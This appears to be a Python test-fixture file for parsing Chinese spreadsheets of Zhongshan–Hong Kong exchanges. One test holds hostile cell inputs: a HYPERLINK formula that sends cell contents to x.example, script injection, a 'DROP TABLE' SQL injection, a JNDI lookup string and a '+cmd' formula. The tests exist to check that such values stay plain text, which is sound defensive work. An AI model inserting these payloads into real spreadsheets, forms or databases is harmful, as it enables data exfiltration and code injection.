# ruff: noqa: E501
"""Cells merged downwards, running numbers, hostile text, cells under no heading, looks that deceive."""

from tests.etl.corpus.expected import hand, workbook
from tests.etl.corpus.making import page, text_file, xlsx


@workbook(
    "合并单元格台账.xlsx",
    visits="""
row | start_date | end_date   | direction | town     | lead     | participants | partners           | topic
3   | 2024-06-11 | 2024-06-13 | ZS_TO_HK  | 中山港街道 | 罗主任   | 7            | 香港科技园公司     | 光电产业
4   | 2024-06-11 | 2024-06-13 | ZS_TO_HK  | 中山港街道 | 罗主任   | -            | 香港理工大学       | 技术转移
5   | 2024-06-11 | 2024-06-13 | ZS_TO_HK  | 中山港街道 | 罗主任   | -            | 香港生产力促进局   | 智能制造
6   | 2024-06-25 | 2024-06-25 | HK_TO_ZS  | 民众街道 | 关会长   | 20           | 香港中华总商会     | 现代农业""",
    problems="merged_number G4, merged_number G5",
    hands=[hand("visits", "A2:H6", B="start_date", F="lead", G="participants", H="topic")],
)
def cells_merged_downwards_mean_as_above():
    """Date, direction, town and leader merged over three rows of one trip: as above; the number, too, but counted once: seven persons went."""
    return xlsx(
        page(
            """
2024年6月台账
序号 | 起止日期 | 方向 | 镇街 | 机构 | 带队领导 | 人数 | 主题
1 | 6月11日至13日 | 赴港 | 火炬开发区 | 科技园公司 | 罗主任 | 7 | 光电产业
 | | | | 香港理工大學 | | | 技术转移
 | | | | HKPC | | | 智能制造
2 | 6月25日 | 来访 | 民众镇 | 香港中總 | 关会长 | 20 | 现代农业""",
            merged="A1:H1 A3:A5 B3:B5 C3:C5 D3:D5 F3:F5 G3:G5",
        )
    )


@workbook(
    "签约（按行业合并）.xlsx",
    intents="""
row | signed_date | title                | partners             | sector   | stage    | amount_low | currency
3   | 2024-08-01  | 康复器械联合实验室   | 香港大学             | 生物医药 | mou      | 8000000    | CNY
4   | 2024-08-01  | 中药颗粒剂出口       | 正大制药集团         | 生物医药 | contract | 50000000   | CNY
5   | 2024-08-15  | 海外仓               | 广东跨境帮供应链管理有限公司 | 跨境电商 | intent   | 20000000 | CNY
6   | 2024-08-15  | 直播基地             | 香港贸易发展局       | 跨境电商 | intent   | 6000000    | CNY""",
    hands=[hand("intents", "A2:F6", B="signed_date", C="title")],
)
def sectors_merged_in_the_first_column():
    """The sector is merged over its rows in the first column, the date over other rows."""
    return xlsx(
        page(
            """
2024年8月签约事项（单位：万元）
所属行业 | 签约日期 | 项目名称 | 合作方 | 进展 | 签约金额
健康医药 | 8月1日 | 康复器械联合实验室 | HKU | 备忘录 | 800
 | | 中药颗粒剂出口 | 正大制药 | 签订合同 | 5000
电商 | 8月15日 | 海外仓 | 跨境帮 | 意向 | 2000
 | | 直播基地 | 貿發局 | 合作意向 | 600
合计 | | | | | 8400""",
            merged="A1:F1 A3:A4 B3:B4 A5:A6 B5:B6",
        )
    )


@workbook(
    "序号作编号.xlsx",
    visits="""
row | start_date | direction | participants | partners         | topic
2   | 2025-08-05 | ZS_TO_HK  | 5            | 香港总商会       | 走访
3   | 2025-08-06 | ZS_TO_HK  | 5            | 香港中华总商会   | 走访
4   | 2025-08-07 | HK_TO_ZS  | 5            | 香港总商会       | 回访""",
    hands=[hand("visits", "A1:F4", B="start_date", E="participants", F="topic")],
)
def running_numbers_that_begin_again_are_no_ids():
    """1, 2, 1 under 编号: lines were inserted and the numbers are no ids."""
    return xlsx(
        page("""
编号 | 时间 | 方向 | 机构 | 人数 | 事由
1 | 2025-08-05 | 赴港 | 香港总商会 | 5 | 走访
2 | 2025-08-06 | 赴港 | 中总 | 5 | 走访
1 | 2025-08-07 | 来访 | 香港总商会 | 5 | 回访""")
    )


@workbook(
    "恶意文本.xlsx",
    visits="""
row | start_date | direction | lead                        | participants | partners     | topic
2   | 2024-10-08 | ZS_TO_HK  | =HYPERLINK("http://x.example/?"&A1,"领导") | 4 | 香港总商会 | <script>alert('会议')</script>
3   | 2024-10-09 | ZS_TO_HK  | $\\rule{9999em}{9999em}$    | 5            | 香港大学     | ![图](http://x.example/a.png)
4   | 2024-10-10 | HK_TO_ZS  | '; DROP TABLE visits; --    | 6            | 香港工业总会 | {{ 7*7 }} ${jndi:ldap://x}
5   | 2024-10-11 | HK_TO_ZS  | +cmd                        | 7            | 香港科技大学 | 港澳来访""",
    hands=[hand("visits", "A1:F5", A="start_date", E="participants", D="lead")],
)
def hostile_text_is_only_text():
    """Formulas as text, script, markup, SQL, invisible and bidirectional characters in cells: kept as text, hidden marks removed."""
    return xlsx(
        page(
            """
日期 | 方向 | 机构 | 带队人 | 人数 | 事由
2024-10-08 | 赴港 | 香港总商会 | '=HYPERLINK("http://x.example/?"&A1,"领导") | 4 | <script>alert('会议')</script>
2024-10-09 | 赴港 | 香港\u200b大学 | $\\rule{9999em}{9999em}$ | 5 | ![图](http://x.example/a.png)
2024-10-10 | 来访 | 香港工业\u00ad总会 | ''; DROP TABLE visits; -- | 6 | {{ 7*7 }} ${jndi:ldap://x}
2024-10-11 | 来访 | ＨＫＵＳＴ | +cmd | 7 | 港澳\u202e\u202c来访""".replace("\u00ad", "")
        )
    )


@workbook(
    "随手记.xlsx",
    visits="""
row | start_date | direction | participants | partners       | topic | extra.(H)
3   | 2025-09-02 | ZS_TO_HK  | 9            | 香港总商会     | 走访  | 待补照片
4   | 2025-09-04 | HK_TO_ZS  | -            | 香港科技园公司 | 座谈  | -
5   | 2025-09-05 | OTHER     | 3            | -              | 深圳转机 | 不计入""",
    hands=[hand("visits", "A2:F5", B="start_date", E="participants", F="topic")],
)
def what_stands_for_nothing_and_notes_beside_the_table():
    """／, 无, —, 暂无, N/A for empty cells; remarks typed under no heading beside the table."""
    return xlsx(
        page("""
2025年9月登记
序号 | 时间 | 方向 | 机构 | 人数 | 事由
1 | 9月2日 | 赴港 | HKGCC | 9 | 走访 | | 待补照片
2 | 9月4日 | 来访 | HKSTP | 暂无 | 座谈
3 | 9月5日 | 其它 | —— | 3 | 深圳转机 | | 不计入""")
    )


@workbook(
    "文本数字.xlsx",
    talent_flows="""
row | period_start | period_end | direction | headcount | scheme
2   | 2024-01-01   | 2024-12-31 | OTHER     | 1234      | 一般就业政策
3   | 2024-01-01   | 2024-12-31 | OTHER     | 5678      | 科技人才入境计划
4   | 2024-01-01   | 2024-12-31 | OTHER     | 90        | 职专毕业生留港计划
5   | 2024-01-01   | 2024-12-31 | OTHER     | 1000      | 新资本投资者入境计划""",
    hands=[hand("talent_flows", "A1:C5", C="headcount")],
)
def numbers_stored_as_text():
    """Numbers typed as text: thousands separators, full width, spaces at the ends, an apostrophe; a year as a number."""
    return xlsx(
        page("""
年份 | 计划 | 宗数
2024 | GEP | '1,234
'2024年 | TechTAS | '５６７８
2024年度 | VPAS | '\u00a090\u3000
'2024 | New CIES | '1 000""")
    )


@workbook(
    "被改成日期的人数.xlsx",
    visits="""
row | start_date | direction | participants | partners       | topic
2   | 2025-04-01 | HK_TO_ZS  | -            | 香港总商会     | 三至五人
3   | 2025-04-02 | HK_TO_ZS  | 8            | 香港工业总会   | 八人""",
    problems="bad_number D2, bad_date A4 lost",
    hands=[hand("visits", "A1:E3", A="start_date", D="participants", E="topic")],
)
def what_excel_turned_into_dates_and_decimals():
    """3-5 became a date in the column of people; 2024.10 became the number 2024.1, January or October."""
    return xlsx(
        page("""
日期 | 方向 | 机构 | 人数 | 事由
@2025-04-01 | 来访 | HKGCC | @2025-03-05 | 三至五人
@2025-04-02 | 来访 | FHKI | 8 | 八人
2024.1 | 来访 | HKPC | 8 | 年月不清""")
    )


@workbook(
    "事项进展（待补）.xlsx",
    intents="""
row | signed_date | title        | partners       | stage  | amount_low | currency
2   | 2025-05-09  | 储能电站     | 荣电集团       | talks  | 120000000  | CNY
5   | -           | 电梯培训基地 | 职业训练局     | intent | 2000000    | CNY
6   | -           | 海外仓       | 香港贸易发展局 | lead   | -          | -""",
    problems="bad_value D3 lost, missing_required B4 lost, bad_date A5, missing_required D7 lost",
    hands=[hand("intents", "A1:E6", A="signed_date", B="title")],
)
def matters_without_a_title_or_a_stage():
    """A stage nobody knows, no title, a day that does not exist, no day at all, no stage: the day alone is no reason to lose a matter."""
    return xlsx(
        page("""
签约时间 | 项目名称 | 港方 | 进展 | 投资额（万元）
2025年5月9日 | 储能电站 | 荣电集团 | 在谈 | 12000
2025年5月12日 | 冷库 | 新濠集团 | 推进中，较顺利 | 300
2025年5月13日 | | 新濠集团 | 意向 | 100
2025年9月31日 | 电梯培训基地 | VTC | 意向 | 200
 | 海外仓 | HKTDC | 线索 | 待定
2025年5月15日 | 研发中心 | HKSTP | | 800""")
    )


@workbook(
    "人才统计（待核）.csv",
    talent_flows="""
row | period_start | period_end | direction | headcount | measure | sector
2   | 2025-04-01   | 2025-04-30 | HK_TO_ZS  | 16        | people  | 智能家电
6   | 2025-04-01   | 2025-04-30 | -         | 7         | people  | 文旅
7   | 2025-04-01   | 2025-04-30 | ZS_TO_HK  | 11        | -       | 会展""",
    problems="bad_number C3 lost, missing_number C4 lost, bad_period A5 lost, bad_value B6, bad_value D7",
    hands=[hand("talent_flows", "A1:E7", C="headcount")],
    separator=";",
)
def figures_that_are_not_certain():
    """A CSV with semicolons: <5 for privacy, no number, a month that does not exist, a direction and a measure nobody knows, ragged lines."""
    return text_file(
        """
月份 | 流向 | 人数 | 口径 | 行业
2025年4月 | 港→中山 | 16 | 人员流动 | 家电
2025年4月 | 港→中山 | <5 | 人员流动 | 灯饰
2025年4月 | 港→中山 | | 人员流动 | 潮玩
2025年13月 | 港→中山 | 3 | 人员流动 | 物流
2025年4月 | 双向 | 7 | 人员流动 | 旅游
2025年4月 | 中山→港 | 11 | 预批 | 展览 | |""",
        ";",
    )
